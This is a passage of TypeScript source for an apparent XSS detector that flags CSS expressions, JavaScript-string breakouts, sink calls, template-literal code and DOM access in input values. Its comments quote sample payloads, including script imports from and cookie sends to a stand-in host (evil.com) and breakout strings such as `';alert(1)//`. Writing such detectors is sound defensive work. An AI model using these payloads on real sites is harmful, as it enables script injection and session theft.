  let q = e;
  while (readCssChar(s, q, limit, r) && r.c <= 32) q = r.next;
  return readCssChar(s, q, limit, r) && r.c === 40 ? r.next : -1;
}

/** Inside a style attribute any `expression(` runs (IE skipped junk before it: `xexpression(`). */
function cssExpressionAnywhere(v: string): boolean {
  for (let i = 0; i < v.length; i++) {
    const c = v.charCodeAt(i) | 0x20;
    // e, E, `\\` (0x5c | 0x20) and `&` can start the keyword.
    if ((c === 101 || c === 0x7c || c === 38) && cssExpressionAt(v, i) !== -1) return true;
  }
  return false;
}

/** String escapes (`\n`, `\t`, `\u00e9`) of JSON- or JS-escaped markup; not CSS obfuscation. */
function stringEscapeLetter(c: number): boolean {
  return c === 110 || c === 114 || c === 116 || c === 117 || c === 118;
}

/**
 * CSS in a style attribute that only an attack writes:
 * - a backslash escape inside a property name (`be\haviour:`, `no\xss:`, `\62 ehavior:`): no
 *   stylesheet escapes an ASCII property name, filter evasion does;
 * - a hex escape that spells a quote or angle bracket anywhere (`font-family:'\22\3e\3cimg …'`):
 *   IE serialised such escapes back into markup (mutation XSS).
 * Escapes of non-ASCII characters (`font-family:\5B8B\4F53`, CJK font names in mail) and string
 * escapes of JSON-escaped markup (`;\n`) are ordinary. A run of backslashes counts as one (a layer
 * of string escaping doubled it). One pass; each escape reads at most 8 + 6 characters.
 */
function cssObfuscated(v: string): boolean {
  const n = v.length;
  let inName = true;
  let quote = 0;
  for (let i = 0; i < n; i++) {
    const c = v.charCodeAt(i);
    if (c === 92 /* \ */) {
      let j = i + 1;
      while (j < n && j - i < 8 && v.charCodeAt(j) === 92) j++;
      if (j >= n) return false;
      let k = j;
      let cp = 0;
      while (k < n && k - j < 6 && hexVal(v.charCodeAt(k)) >= 0) cp = cp * 16 + hexVal(v.charCodeAt(k++));
      if (k > j) {
        if (cp === 34 || cp === 39 || cp === 60 || cp === 62) return true;
        if (inName && quote === 0 && cp > 32 && cp < 127) return true;
        i = k - 1;
        continue;
      }
      const e = v.charCodeAt(j);
      // `\x41` is a JavaScript escape, `\xss` a CSS escape of the letter x.
      const jsHex = e === 120 && hexVal(v.charCodeAt(j + 1)) >= 0 && hexVal(v.charCodeAt(j + 2)) >= 0;
      if (inName && quote === 0 && isAlnum(e) && !stringEscapeLetter(e) && !jsHex) return true;
      i = j;
      continue;
    }
    if (quote !== 0) {
      if (c === quote) quote = 0;
    } else if (c === 34 || c === 39) {
      quote = c;
    } else if (c === 58 /* : */) {
      inName = false;
    } else if (c === 59 /* ; */ || c === 123 /* { */) {
      inName = true;
    }
  }
  return false;
}

/**
 * A `}` before any `{` in a style attribute (`color:red;}`): the value closes the declaration block
 * it lives in. Today's browsers parse a style attribute as a declaration list and ignore it; a
 * trailing `}` is also what a pasted rule leaves, so this is `medium`. With more CSS after it
 * (`font-family:x}body{…`) it is styleInjection's, high: that is written for the parsers that do
 * leave the block (legacy browsers, property-allowlisting sanitizers), and no honest inline style
 * has it. Balanced groups (`${w}`, `{{c}}`, JSX `{styles.box}`) open before they close and pass.
 */
function cssBlockBreakout(v: string): boolean {
  for (let i = 0; i < v.length; i++) {
    const c = v.charCodeAt(i);
    if (c === 123) return false;
    if (c === 125) return true;
  }
  return false;
}

const BINDING_PROPERTIES = ['behavior', 'behaviour', 'binding', '-moz-binding'];

/**
 * s.indexOf(':', from), with the next few characters read first: in colon-dense text (`:\`, `:&:`,
 * `x:/&0`) the next colon is a load or two away and the native call cost more than the loads; past
 * 8 characters, one native search as before. Prose rarely gets here (see scanCss).
 */
function nextColon(s: string, from: number): number {
  const end = Math.min(s.length, from + 8);
  for (let j = from; j < end; j++) if (s.charCodeAt(j) === 58) return j;
  return end < s.length ? s.indexOf(':', end) : -1;
}

function scanCss(s: string, best: Best): boolean {
  let i = s.indexOf(':');
  // (One Reader for the scan: readCssChar sets both fields whenever it returns true, and only then
  // are they read. One per colon was an allocation per colon of a colon run.)
  const r: Reader = { c: 0, next: 0 };
  const n = s.length;
  while (i !== -1) {
    // A colon followed by a plain character (no blank, `/`, `&`, backslash or `e`: the blank skip
    // below would read it alone, and no expression starts with it) after a character that ends no
    // property name (no letter, digit or space): nothing below can fire. The next colon is taken
    // without the calls, and in a run (`::::`) without a search: ~15 -> ~7 µs/KB on 1 MB of `::::&`.
    const c1 = i + 1 < n ? s.charCodeAt(i + 1) : -1;
    const c0 = i > 0 ? s.charCodeAt(i - 1) : -1;
    let plain = c1 > 32 && c1 !== 47 && c1 !== 38 && c1 !== 92 && (c1 | 0x20) !== 101;
    if (!plain && i + 2 < n && (c1 === 92 || c1 === 38)) {
      // A backslash before a character that is no hex digit and no blank escapes that character
      // alone (`\:`, `\(`: readCssChar gives it back, never `e`, a blank or a comment); an `&` that
      // entityAt does not decode (not `&#`, no name starting `t`, `n` or `c`) is a literal `&`. Either
      // way the first character read is plain, as above: one or two loads spare readCssChar and
      // cssExpressionAt at each colon of `:\` or `:&:` text (1 MB of `:\`: ~x9 of prose before).
      const c2 = s.charCodeAt(i + 2);
      const l2 = c2 | 0x20;
      plain = c1 === 92 ? c2 > 32 && hexVal(c2) < 0 : c2 !== 35 && l2 !== 116 && l2 !== 110 && l2 !== 99;
    }
    if (plain && !isAlnum(c0) && c0 !== 32) {
      i = nextColon(s, i + 1);
      continue;
    }
    const limit = Math.min(s.length, i + CSS_BUDGET);
    let p = i + 1;
    // Skip whitespace and comments after the colon. An unterminated comment or a long run of
    // blanks is not re-read from the colons inside it: the next colon searched is past it.
    let ok = false;
    while ((ok = readCssChar(s, p, limit, r)) && r.c <= 32) p = r.next;
    if (!ok) {
      i = s.indexOf(':', Math.max(i + 1, limit));
      continue;
    }
    // cssExpressionAt reads its first character at `p` as readCssChar does: a `/` (comment), `&`
    // (entity) or backslash (escape) there, or else the character itself, which must be `e`. One
    // load spares the call (and its Readers) for every other colon.
    const e0 = s.charCodeAt(p);
    if ((e0 === 47 || e0 === 38 || e0 === 92 || (e0 | 0x20) === 101) && cssExpressionAt(s, p) !== -1) {
      return best.add('css-expression', 'high', 'A CSS expression( that runs script (legacy IE).');
    }
    // `behavior:url(…)` / `-moz-binding:url(…)`: the property name sits before the colon.
    if (!isAlnum(c0) && c0 !== 32) {
      i = s.indexOf(':', i + 1);
      continue;
    }
    // `url` is read first, and only where its `u` may start (as for `e` above): the property name's
    // slice, lower-casing and six suffix tests ran for every colon after a word (`key: value` text).
    if ((e0 === 47 || e0 === 38 || e0 === 92 || (e0 | 0x20) === 117) && cssWordAt(s, p, 'url', limit) !== -1) {
      const before = s.slice(Math.max(0, i - 16), i).toLowerCase();
      let b = before.length;
      while (b > 0 && before.charCodeAt(b - 1) <= 32) b--;
      const prop = before.slice(0, b);
      if (BINDING_PROPERTIES.some((name) => prop.endsWith(name))) {
        return best.add('css-binding', 'high', 'A CSS behavior/binding URL that loads script.');
      }
    }
    i = s.indexOf(':', i + 1);
  }
  return false;
}

/**
 * JavaScript-string breakouts and sink calls: an identifier chain ending in alert/prompt/confirm/eval/…
 * called with `(` or a backtick, and what precedes it: the start of the value, `;` `}` `)`, or a quote
 * followed by an operator (`';alert(1)//`, `'-alert(1)-'`).
 *
 * Driven by the call characters: each `(` and backtick looks back (over blanks and backslashes) at the
 * identifier chain it ends, and each `(` looks ahead at a callback (`find(alert)`), so text between
 * calls is never read. The chain is the one a left-to-right reader would see: identifiers joined by
 * dots, starting at the first letter, `_` or `$` (a chain never starts with a digit: `1alert(` is
 * `alert`). Chains hold no call character, so the look-backs cover disjoint stretches: linear.
 */
function scanJsSinks(s: string, best: Best, spans: readonly number[] | undefined): boolean {
  let paren = s.indexOf('(');
  let tick = s.indexOf('`');
  while (paren !== -1 || tick !== -1) {
    let c: number;
    if (tick === -1 || (paren !== -1 && paren < tick)) {
      c = paren;
      paren = s.indexOf('(', c + 1);
    } else {
      c = tick;
      tick = s.indexOf('`', c + 1);
    }
    if (sinkCallAt(s, c, best, spans)) return true;
    if (s.charCodeAt(c) === 40 && sinkCallbackAt(s, c, best)) return true;
  }
  return false;
}

function isDigit(c: number): boolean {
  return c >= 48 && c <= 57;
}

/** Only slice identifiers that could be a sink (length 4–11, starting with a, p, c, e or s). */
function sinkName(s: string, a: number, e: number): string {
  const len = e - a;
  const f0 = s.charCodeAt(a);
  if (len < 4 || len > 11 || !(f0 === 97 || f0 === 112 || f0 === 99 || f0 === 101 || f0 === 115)) return '';
  const ident = s.slice(a, e);
  return SINKS.has(ident) ? ident : '';
}

/** The call character at `c` (`(` or a backtick) calls a sink: report it by what precedes the chain. */
function sinkCallAt(s: string, c: number, best: Best, spans: readonly number[] | undefined): boolean {
  // Blanks, and backslashes that a string layer consumes (`alert\`1\``), may sit before the call.
  let e = c;
  let blank = false;
  while (e > 0 && c - e < 8) {
    const b = s.charCodeAt(e - 1);
    if (b === 32 || b === 9) blank = true;
    else if (b !== 92) break;
    e--;
  }
  if (e === 0 || !isIdentChar(s.charCodeAt(e - 1))) return false;
  let r = e - 1;
  while (r > 0 && isIdentChar(s.charCodeAt(r - 1))) r--;
  // The last identifier: the whole run after a dot, else the run without its leading digits.
  const dotted = r >= 2 && s.charCodeAt(r - 1) === 46 && isIdentChar(s.charCodeAt(r - 2));
  let lastStart = r;
  if (!dotted) while (lastStart < e && isDigit(s.charCodeAt(lastStart))) lastStart++;
  const ident = sinkName(s, lastStart, e);
  if (ident === '') return false;
  // The chain's start: back over `ident.` segments, then forward to the first non-digit identifier
  // character (leading digits and dots are where a reader would not have started a chain).
  let p = r;
  while (p >= 2 && s.charCodeAt(p - 1) === 46 && isIdentChar(s.charCodeAt(p - 2))) {
    p -= 2;
    while (p > 0 && isIdentChar(s.charCodeAt(p - 1))) p--;
  }
  while (p < lastStart && (isDigit(s.charCodeAt(p)) || s.charCodeAt(p) === 46)) p++;
  const chainStart = p;
  // `alert(s)` in prose ("check the alert(s) page") is not a call, nor "eval() is evil".
  if (s.charCodeAt(c) === 40 && (((s.charCodeAt(c + 1) | 0x20) === 115 && s.charCodeAt(c + 2) === 41) || namedInProse(s, c))) return false;
  const ctx = sinkContext(s, chainStart);
  if (ctx === 'start' && (ident === 'setTimeout' || ident === 'setInterval') && s.charCodeAt(c) === 40 && functionRefArg(s, c + 1)) {
    // A value that is `setInterval(tick, 1000)`: a timer given a function by name runs no string;
    // only a sink passed that way (`setTimeout(alert, 0)`, sinkCallbackAt) is code. After a breakout
    // (`';setTimeout(x,1)//`) the call stays high.
    if (best.wants('low')) best.add('js-breakout', 'low', `A call to ${ident}() with a function reference.`);
    return false;
  }
  if (ctx === 'start' || ctx === 'breakout') {
    const why = ctx === 'start' ? 'A value that is a call to' : 'A string or statement breakout into a call to';
    return best.add('js-breakout', 'high', `${why} ${ident}().`);
  }
  if (!blank && spans !== undefined && inSpan(spans, chainStart)) {
    // Inside a tag (an attribute value or a mangled name: `<a href="x#alert(1)">`,
    // `<img[a]onerror[b]="alert(1)">`): markup that carries a call, whatever the browser makes of it.
    return best.add('script-in-tag', 'high', `A call to ${ident}() inside a tag.`);
  }
  if (ctx === 'expression') {
    if (best.wants('medium')) best.add('js-breakout', 'medium', `A call to ${ident}() inside an expression.`);
  } else if (best.wants('low')) {
    best.add('js-breakout', 'low', `A call to ${ident}().`);
  }
  return false;
}

/**
 * From `a` (after a timer's `(`): a name or member chain (`tick`, `this.poll`) that is no sink,
 * followed by `,` or `)`. Bounded: at most 64 characters looked at.
 */
function functionRefArg(s: string, a: number): boolean {
  let k = a;
  while (k < s.length && k - a < 8 && (s.charCodeAt(k) === 32 || s.charCodeAt(k) === 9)) k++;
  const start = k;
  if (!isIdentChar(s.charCodeAt(k)) || isDigit(s.charCodeAt(k))) return false;
  let seg = k;
  while (k < s.length && k - start < 64 && (isIdentChar(s.charCodeAt(k)) || (s.charCodeAt(k) === 46 && isIdentChar(s.charCodeAt(k + 1))))) {
    if (s.charCodeAt(k) === 46) seg = k + 1;
    k++;
  }
  const last = s.slice(seg, k);
  if (SINKS.has(last) || last === 'Function' || last === 'constructor') return false;
  while (k < s.length && k - start < 72 && (s.charCodeAt(k) === 32 || s.charCodeAt(k) === 9)) k++;
  return s.charCodeAt(k) === 44 || s.charCodeAt(k) === 41;
}

/** A sink passed as a callback right after the `(` at `c`: `[1].find(alert)`, `setTimeout(alert)`. */
function sinkCallbackAt(s: string, c: number, best: Best): boolean {
  const a = c + 1;
  if (!isIdentChar(s.charCodeAt(a)) || isDigit(s.charCodeAt(a)) || !isIdentChar(s.charCodeAt(c - 1))) return false;
  let j = a;
  while (j < s.length && isIdentChar(s.charCodeAt(j))) j++;
  // `find(alert.x)` is a member of the sink, not the sink.
  if (s.charCodeAt(j) === 46 && isIdentChar(s.charCodeAt(j + 1))) return false;
  const ident = sinkName(s, a, j);
  if (ident === '') return false;
  let k = j;
  while (k < s.length && k - j < 8 && (s.charCodeAt(k) === 32 || s.charCodeAt(k) === 9 || s.charCodeAt(k) === 92)) k++;
  if (s.charCodeAt(k) !== 41) return false;
  return best.add('js-breakout', 'high', `A call that receives ${ident} as a callback.`);
}

/** Steps left for skipBack within one sinkContext call (64 in all). */
let skipSteps = 0;

/** From `q` leftwards past whitespace and `/* … *\/` comments; returns the first other index (or -1). */
function skipBack(s: string, q: number): number {
  while (q >= 0 && skipSteps++ < 64) {
    const c = s.charCodeAt(q);
    if (c <= 32) {
      q--;
      continue;
    }
    if (c === 47 && s.charCodeAt(q - 1) === 42) {
      // Bounded backward search for the comment opener.
      let open = q - 2;
      while (open > 0 && q - open < 64 && !(s.charCodeAt(open - 1) === 47 && s.charCodeAt(open) === 42)) open--;
      if (open <= 0 || q - open >= 64) return q;
      q = open - 2;
      continue;
    }
    return q;
  }
  return q;
}

/** Looks left of a sink call, skipping whitespace and `/* … *\/` comments (bounded). */
function sinkContext(s: string, p: number): 'start' | 'breakout' | 'expression' | 'other' {
  skipSteps = 0;
  let q = skipBack(s, p - 1);
  if (q < 0) return 'start';
  const c = s.charCodeAt(q);
  // Quotes and spaces an attacker leads with still count as the start: `"alert(1)`, `'prompt()`.
  if (isQuote(c) || c === 92) {
    let r = q;
    while (r >= 0 && (isQuote(s.charCodeAt(r)) || s.charCodeAt(r) === 92 || s.charCodeAt(r) <= 32)) r--;
    if (r < 0) return 'start';
  }
  if (c === 59 /* ; */ || c === 125 /* } */ || c === 62 /* > */) return 'breakout';
  // `${alert(1)}`: a substitution runs as soon as the value lands in a template literal that the
  // page builds by concatenation (`var msg = \`Hi ${name}\``); code snippets in tickets put
  // variables there (`${user.name}`), not a dialog or eval call. Judged as a value of its own, so
  // `${setInterval(tick, 1000)}` (a timer given a function name) stays low.
  if (c === 123 && q > 0 && s.charCodeAt(q - 1) === 36 /* $ */) return 'start';
  if (c === 43 || c === 45 || c === 42 || c === 124 || c === 38 || c === 94 || c === 44 || c === 37 || c === 126 || c === 33 || c === 63 || c === 58) {
    // An operator: a breakout when a quote (or `)`) sits right before it.
    q = skipBack(s, q - 1);
    const d = s.charCodeAt(q);
    if (q >= 0 && (isQuote(d) || d === 41 || d === 92)) return 'breakout';
    return 'expression';
  }
  if (c === 40 || c === 61 || c === 91 || c === 123) return 'expression';
  return 'other';
}

const GLOBALS = new Set(['window', 'self', 'top', 'parent', 'frames', 'globalThis', 'content']);

/**
 * Property calls that hide the function name: `top['al\145rt'](1)`, `self[/al/.source+'ert'](1)`,
 * and template-literal trampolines `` [].sort.call`${alert}` ``.
 */
function scanJsIndirect(s: string, best: Best): boolean {
  const n = s.length;
  for (let b = s.indexOf('['); b !== -1; b = s.indexOf('[', b + 1)) {
    let a = b;
    while (a > 0 && b - a < 12 && isIdentChar(s.charCodeAt(a - 1))) a--;
    if (a === b || (a > 0 && (isIdentChar(s.charCodeAt(a - 1)) || s.charCodeAt(a - 1) === 46))) continue;
    if (!GLOBALS.has(s.slice(a, b))) continue;
    // The bracket's content builds a name (a string, a regex source, a concatenation), then `](`.
    let built = false;
    for (let k = b + 1; k < n && k - b < 96; k++) {
      const c = s.charCodeAt(k);
      if (isQuote(c) || c === 47 || c === 43) built = true;
      if (c === 93 /* ] */) {
        let m = k + 1;
        while (m < n && m - k < 8 && s.charCodeAt(m) === 91) {
          // Chained `["$"]["globalEval"]`: skip to the last bracket.
          const close = indexWithin(s, ']', m, m + 96);
          if (close === -1) break;
          m = close + 1;
        }
        if (built && (s.charCodeAt(m) === 40 || s.charCodeAt(m) === 96)) {
          return best.add('js-breakout', 'high', 'A computed call on the global object that hides the function name.');
        }
        break;
      }
    }
  }
  for (let d = s.indexOf('${'); d !== -1; d = s.indexOf('${', d + 2)) {
    let k = d + 2;
    while (k < n && k - d < 16 && s.charCodeAt(k) <= 32) k++;
    let e = k;
    while (e < n && e - k < 16 && isIdentChar(s.charCodeAt(e))) e++;
    let c = e;
    while (c < n && c - e < 16 && s.charCodeAt(c) <= 32) c++;
    if (s.charCodeAt(c) === 125 && SINKS.has(s.slice(k, e))) {
      return best.add('js-breakout', 'high', 'A template literal that passes a sink function as a value.');
    }
  }
  return false;
}

/** scanTemplateCode's names, by kind: called, `location`, a keyword before them, a root before `.`. */
const TPL_CALL = 1;
const TPL_LOCATION = 2;
const TPL_PREFIX = 4;
const TPL_ROOT = 8;
/**
 * A trie over ASCII of space-separated name lists, each with its kind bits (next: state × 128 → state,
 * 0 = none; kind: the bits of the names ending at a state). Built once at load.
 */
function nameTrie(lists: Array<[number, string]>): { next: Uint16Array; kind: Uint8Array } {
  let states = 1;
  for (const [, names] of lists) states += names.replaceAll(' ', '').length;
  const next = new Uint16Array(states * 128);
  const kind = new Uint8Array(states);
  let used = 1;
  for (const [k, names] of lists) {
    for (const name of names.split(' ')) {
      let st = 0;
      for (let i = 0; i < name.length; i++) {
        const at = st * 128 + name.charCodeAt(i);
        if (next[at] === 0) next[at] = used++;
        st = next[at] as number;
      }
      kind[st] = (kind[st] as number) | k;
    }
  }
  return { next, kind };
}

/**
 * Those names as a trie over ASCII (next: state × 128 → state, 0 = none; kind: TPL_* of the name
 * ending at a state), as BO_TRIE: a `${` before any other word is left at its first character or
 * two, with no map lookup (`${a` repeated cost ~26 ns a `${` with maps and startsWith).
 * (Not the timers: `${setInterval(tick, 1000)}` passes a function; a string of code there is
 * scanJsSinks'. Not atob, open, write: `${atob(s)}` decodes for display.)
 */
const TPL_TRIE = ((): { next: Uint16Array; kind: Uint8Array } => {
  const lists: Array<[number, string]> = [
    [TPL_CALL, 'import fetch eval Function sendBeacon WebSocket EventSource alert prompt confirm'],
    [TPL_LOCATION, 'location'],
    [TPL_PREFIX, 'new await void'],
    [TPL_ROOT, 'window self top parent globalThis navigator document'],
  ];
  return nameTrie(lists);
})();

/** The identifier at `k` (ASCII), ending at most `max` characters on: its end. O(max). */
function identEnd(s: string, k: number, max: number): number {
  let e = k;
  while (e < s.length && e - k < max && s.charCodeAt(e) < 128 && (IDENT_ASCII[s.charCodeAt(e)] as number) !== 0) e++;
  return e;
}

/** 1 for the characters a `${` may be followed by for scanTemplateCode: blanks and TPL_TRIE first letters. */
const TPL_FIRST = ((): Uint8Array => {
  const t = new Uint8Array(128);
  for (let c = 0; c < 128; c++) if (c <= 32 || (TPL_TRIE.next[c] as number) !== 0) t[c] = 1;
  return t;
})();

/** Where the name tplName read ends. */
let tplEnd = 0;

/**
 * The TPL_* kind of the whole identifier at `k` (0: none, or no identifier): walked along TPL_TRIE,
 * left at the first character no name continues with. Sets tplEnd. O(name).
 */
function tplName(s: string, k: number): number {
  const next = TPL_TRIE.next;
  let st = 0;
  let e = k;
  for (; e < s.length; e++) {
    const c = s.charCodeAt(e);
    if (c >= 128 || (IDENT_ASCII[c] as number) === 0) break;
    st = next[st * 128 + c] as number;
    if (st === 0) return 0;
  }
  tplEnd = e;
  return TPL_TRIE.kind[st] as number;
}

/**
 * `${import('//evil.com/x.js')}`, `${fetch('//x?'+document.cookie)}`, `${location='//evil.com'}`: a
 * value placed in a template literal (`` var x = `<value>` ``) runs its `${…}` without closing
 * anything, so the breakout frame's quote and comment are not needed (session 20: passed). What
 * counts is narrow, a capability at the start of the expression: after `${`, blanks, `new` / `await` /
 * `void`, one global root and `.`, a TPL_CALL name called (`(` or a backtick), or `location`
 * assigned (`=`, `.href=`) or sent (`.assign(`, `.replace(`). Template code reads values
 * (`${location.origin}`, `${localStorage.token}`, `${atob(s)}`, `${fmt(x)}`), which stay quiet.
 * Judges the `${` at `d`: 1 (a call), 2 (location), 0. O(1): at most ~70 characters read.
 */
function templateCodeAt(s: string, d: number): number {
  const n = s.length;
  let k = d + 2;
  while (k < n && k - d < 10 && s.charCodeAt(k) <= 32) k++;
  let kind = tplName(s, k);
  if (kind & TPL_PREFIX) {
    k = tplEnd;
    while (k < n && k - tplEnd < 4 && s.charCodeAt(k) <= 32) k++;
    kind = tplName(s, k);
  }
  if (kind & TPL_ROOT && s.charCodeAt(tplEnd) === 46) kind = tplName(s, tplEnd + 1);
  if ((kind & (TPL_CALL | TPL_LOCATION)) === 0) return 0;
  const e = tplEnd;
  let f = e;
  while (f < n && f - e < 4 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
  const c = s.charCodeAt(f);
  if (kind & TPL_CALL) return c === 40 || c === 96 ? 1 : 0;
  let g = f;
  if (c === 46) {
    const m = identEnd(s, f + 1, 8);
    const name = s.slice(f + 1, m);
    g = m;
    while (g < n && g - m < 4 && (s.charCodeAt(g) === 32 || s.charCodeAt(g) === 9)) g++;
    if ((name === 'assign' || name === 'replace') && s.charCodeAt(g) === 40) return 2;
    if (name !== 'href') return 0;
  }
  return s.charCodeAt(g) === 61 && s.charCodeAt(g + 1) !== 61 ? 2 : 0;
}

/**
 * Every `${` of the value judged by templateCodeAt: one character loop from the first, and before
 * the call the first name walked along TPL_TRIE in place (a native search per `${`, then a call per
 * `${`, cost 1 MB of `${a` ~5-12 µs/KB). O(1) more per `${`.
 */
function scanTemplateCode(s: string, best: Best): boolean {
  const next = TPL_TRIE.next;
  const kinds = TPL_TRIE.kind;
  const last = s.length - 2;
  for (let d = s.indexOf('${'); d !== -1 && d < last; d++) {
    if (s.charCodeAt(d) !== 36 || s.charCodeAt(d + 1) !== 123) continue;
    // A `${` right after an unescaped backtick is not inside an enclosing literal: that backtick would
    // close it (`` `a`${fetch(x)}` `` is a syntax error there). It is JS quoted in prose or markdown
    // (`` never write `${fetch(url)}` ``), a new literal opened outside one. An escaped backtick (\`)
    // keeps the literal open, so it is still judged.
    if (d > 0 && s.charCodeAt(d - 1) === 96 && (d < 2 || s.charCodeAt(d - 2) !== 92)) continue;
    let k = d + 2;
    let c = s.charCodeAt(k);
    while (c <= 32 && k - d < 10) c = s.charCodeAt(++k);
    let st = 0;
    while (c < 128 && (IDENT_ASCII[c] as number) !== 0) {
      st = next[st * 128 + c] as number;
      if (st === 0) break;
      c = s.charCodeAt(++k);
    }
    if (st === 0 || (kinds[st] as number) === 0) continue;
    const hit = templateCodeAt(s, d);
    if (hit === 1) return best.add('js-breakout', 'high', 'A template literal expression that loads, sends or runs code (import, fetch, eval, …).');
    if (hit === 2) return best.add('js-breakout', 'high', 'A template literal expression that redirects the page (location).');
  }
  return false;
}

/**
 * Netscape JavaScript entities outside an attribute: `&{document.cookie=true;};`. An `&{` counts when
 * its first `}` lies within 256 characters and a `(` or `=` comes before that `}`. Both "first at or
 * after" positions only move forward as the `&{` do: each is found again only once passed (the
 * searches read disjoint stretches). Dense `&{'` read a 256-character window (a slice) per `&{`:
 * ~8 µs/KB at 64 KB.
 */
function scanJsEntities(s: string, best: Best): boolean {
  const n = s.length;
  let close = -1; // the first `}` at or after the current d + 2 (-1: not searched yet)
  let code = -1; // the first `(` or `=` at or after the current d + 2 (n: none)
  for (let d = s.indexOf('&{'); d !== -1; d = s.indexOf('&{', d + 2)) {
    if (close < d + 2) {
      close = s.indexOf('}', d + 2);
      if (close === -1) return false; // no `}` after this `&{`, nor after any later one
    }
    if (close >= d + 256) continue;
    if (code < d + 2) {
      code = d + 2;
      while (code < n) {
        const c = s.charCodeAt(code);
        if (c === 40 || c === 61) break;
        code++;
      }
    }
    if (code < close) return best.add('js-breakout', 'high', 'A JavaScript entity &{…} with code inside.');
  }
  return false;
}

/**
 * DOM reads and writes (`document.cookie`, `window.location=…`, `document.body.appendChild(…)`) that
 * are code: followed by a call, assignment, operator or the end of the value (codeAfter), and placed
 * at the start of the value, after a statement or string breakout, or inside a tag (`<a
 * title="document.cookie">`, `<a href="x#document.cookie=1">`). A mention mid-sentence or in a path
 * ("see javascript-manual/document.cookie") is at most `medium`.
 */
function scanDom(s: string, best: Best, spans: readonly number[] | undefined, roots: readonly number[]): boolean {
  for (const a of roots) {
    // Where the root stands first: a root that could only add what was already found is not read.
    const inTag = spans !== undefined && inSpan(spans, a);
    const ctx = inTag ? 'start' : sinkContext(s, a);
    if (!(ctx === 'start' || ctx === 'breakout' || (ctx === 'expression' && best.wants('medium')))) continue;
    const q = domChainAt(s, a);
    if (q === -1 || !codeAfter(s, q)) continue;
    if (inTag) {
      if (best.add('dom-access', 'high', 'A DOM access (document.cookie, window.location, …) inside a tag.')) return true;
    } else if (ctx === 'expression') {
      best.add('dom-access', 'medium', 'DOM code (document.cookie, window.location, …) inside an expression.');
    } else {
      const why = ctx === 'start' ? 'A value that is' : 'A string or statement breakout into';
      if (best.add('dom-access', 'high', `${why} DOM code (document.cookie, window.location, …).`)) return true;
    }
  }
  return false;
}

/**
 * Browser capabilities a JavaScript-string breakout uses to do harm without a dialog or a
 * document./window. chain (scanJsSinks, scanDom): load a remote script, exfiltrate storage, redirect.
 * Call names count before a call (`(` or a backtick), references before code punctuation (isRefFollower),
 * BO_SET names before an assignment or a member (`location=`, `location.href`, `onerror=alert`), and
 * BO_MEMBER_SET names assigned as a member (`s.src=`, `x.innerHTML=`).
 */
const BO_CALL_K = 1;
const BO_REF_K = 2;
const BO_SET_K = 4;
/** Assigned as a member only (`s.src=`, `x.innerHTML=`): a variable of that name does nothing. */
const BO_MEMBER_SET_K = 8;
/**
 * Also harmful passed as a function value (`';Reflect.apply(alert,null,[1])//`, `';setTimeout(eval,0,…)//`):
 * an argument of its own, between `(` or `,` and `,` or `)`.
 */
const BO_VALUE_K = 16;
/**
 * The BO_* names as a trie over ASCII (BO_NEXT: state × 128 → next state, 0 = none; BO_KIND: the
 * kinds of the name ending at a state). An identifier is walked one table read per character and
 * left at its first character no name continues with: no map lookup, no slice. (With maps by first
 * character, `';abcd(abcd(…//` at 1 MB cost ~63 µs/KB; ~3 with this.)
 */
const BO_TRIE = ((): { next: Uint16Array; kind: Uint8Array } => {
  const lists: Array<[number, string]> = [
    [
      BO_CALL_K,
      'import fetch open eval Function atob setTimeout setInterval sendBeacon postMessage getScript globalEval ajax ' +
        'createElement appendChild write writeln insertAdjacentHTML WebSocket EventSource alert prompt confirm',
    ],
    [BO_REF_K, 'localStorage sessionStorage indexedDB XMLHttpRequest'],
    [BO_SET_K, 'location onerror onload'],
    [BO_MEMBER_SET_K, 'src href action innerHTML outerHTML'],
    [BO_VALUE_K, 'alert prompt confirm eval Function'],
  ];
  return nameTrie(lists);
})();

/** After a BO_REF name, what makes it code (`localStorage.t`, `new XMLHttpRequest;`): not `"localStorage":`. */
function isRefFollower(d: number): boolean {
  return d === -1 || d === 46 || d === 61 || d === 59 || d === 41 || d === 44 || d === 93 || d === 43 || d === 91 || d === 40;
}

/** `+ - * | & ^ % , ;`: what joins a closed string to injected code (`';x//`, `'+x+'`, `'-x-'`). */
function isJoinOp(c: number): boolean {
  return c === 59 || c === 43 || c === 45 || c === 42 || c === 124 || c === 38 || c === 94 || c === 37 || c === 44;
}

/**
 * A value shaped as a complete JavaScript-string breakout: it opens by closing a string (a quote,
 * optional `\`, `)`, `]`, `}`, then `;` or an operator) and ends by neutralising the rest of the line
 * (a `//` comment to the end) or by reopening a string (an operator or `=`, `(`, then the same quote).
 * Returns the end of the head, or -1; `boTail` receives where the tail starts. O(1) but for the
 * lastIndexOf of `//` and its line-break check (one pass over the tail).
 */
let boTail = -1;
/** The end of the span where breakout names count: boTail, or in a number context its first statement's end. */
let boStmtEnd = -1;

/** The value's first character, past up to 8 blanks and 2 backslashes, is a quote. O(1). */
function quoteHead(s: string): boolean {
  let k = 0;
  while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
  while (k < s.length && k < 10 && s.charCodeAt(k) === 92) k++;
  return isQuote(s.charCodeAt(k)) || prefixedQuote(s, k) !== -1;
}

/**
 * The string's text may come before the quote that closes it: `a';import('//evil.com/x.js')//` in
 * `var x = '<value>'` is `var x = 'a';import(…)//'` (session 20: it passed, the quote had to come
 * first). Up to 16 identifier characters ([A-Za-z0-9_$]) and 2 backslashes at `k`, then a quote:
 * its index, or -1. No blank, so a sentence with an apostrophe later on is not one. O(1).
 */
function prefixedQuote(s: string, k: number): number {
  const n = s.length;
  let j = k;
  while (j < n && j - k < 16) {
    const c = s.charCodeAt(j);
    if (c >= 128 || (IDENT_ASCII[c] as number) === 0) break;
    j++;
  }
  if (j === k) return -1;
  const b = j;
  while (j < n && j - b < 2 && s.charCodeAt(j) === 92) j++;
  return isQuote(s.charCodeAt(j)) ? j : -1;
}

/**
 * The value may open a number-context breakout (breakoutFrame): blanks, up to 20 digits (one leading
 * minus), `)` or `]`, then numberJoin, and a `//` somewhere after. O(1) but for one native indexOf,
 * paid only by values such as `1;x`.
 */
function numberHead(s: string): boolean {
  const n = s.length;
  let k = 0;
  while (k < n && k < 8 && s.charCodeAt(k) <= 32) k++;
  const d0 = k;
  if (s.charCodeAt(k) === 45) k++;
  const d1 = k;
  while (k < n && k - d0 <= 20 && isDigit(s.charCodeAt(k))) k++;
  if (k === d1 || k - d0 > 20) return false;
